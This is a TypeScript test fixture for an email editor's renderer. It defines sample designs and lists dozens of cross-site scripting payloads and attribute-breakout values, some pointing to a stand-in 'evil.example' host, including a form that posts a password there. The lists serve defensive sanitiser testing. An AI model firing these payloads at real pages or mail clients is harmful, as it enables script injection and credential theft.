import { EDITABLE_TYPES } from './kinds.ts';
import { renderMail } from './renderMail.ts';
import type { Block, Design, Values } from '../../../emailEditor.ts';

/** Every kind of block with a renderer of its own, and an unknown one. */
export const TYPES = [
  ...EDITABLE_TYPES,
  'paragraph',
  'video',
  'timer',
  'table',
  'form',
  'custom',
  'nobody-knows-it',
];

export const designOf = (contents: readonly Block[], values: Values = {}): Design => ({
  body: { rows: [{ cells: [1], columns: [{ contents, values: {} }], values: {} }], values },
});
/** The mail of a design, in English. */
export const render = (design: Design) => renderMail(design, { subject: 'A & B', language: 'en' });

/** HTML that runs something, loads something or escapes its box unless it is sanitised. */
export const HOSTILE_HTML = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" OnLoad="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css"; * { behavior: url(x.htc) }</style>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background: url(javascript:alert(1))">x</div>',
  '<div style="background-image: \\75rl(javascript:alert(1))">x</div>',
  '<div style="-moz-binding: url(https://evil.example/x.xml#a); behavior: url(x.htc)">x</div>',
  '<div style="position: fixed; inset: 0">x</div>',
  '<div style="width: exp/**/ression(alert(1))">x</div>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<!--[if mso]><!--[if gte mso 9]><script>alert(1)</script><![endif]--><![endif]-->',
  '<![if mso]><script>alert(1)</script><![endif]>',
  '<b title="--><!--[if mso]><script>alert(1)</script><![endif]-->">x</b>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src=x>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '"><script>alert(1)</script>',
  '\'"--><img src=x onerror=alert(1)>',
  '</title></style></td></table><script>alert(1)</script>',
];

/** Values that break out of their attribute, rule or tag unless they are cleaned. */
export const HOSTILE_VALUES = [
  '"><script>alert(1)</script>',
  '1px;}</style><script>alert(1)</script>',
  'red;background:url(javascript:alert(1))',
  'red" onmouseover="alert(1)',
  'red--><script>alert(1)</script><!--[if mso]>',
  'expression(alert(1))',
  'url("javascript:alert(1)")',
  'h1 onclick=alert(1)',
  'h1><script>alert(1)</script><h1',
];
